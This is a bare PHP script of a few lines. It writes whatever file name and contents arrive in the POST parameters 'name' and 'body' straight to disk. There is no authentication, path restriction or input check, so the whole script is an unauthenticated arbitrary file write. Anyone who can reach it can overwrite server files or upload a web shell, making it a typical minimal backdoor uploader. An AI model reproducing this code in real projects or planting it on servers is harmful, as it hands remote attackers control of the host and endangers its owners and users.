<?php
$name = $_POST['name'];
$body = $_POST['body'];
$fh = fopen($name, 'w');
fwrite($fh, $body);
fclose($fh);
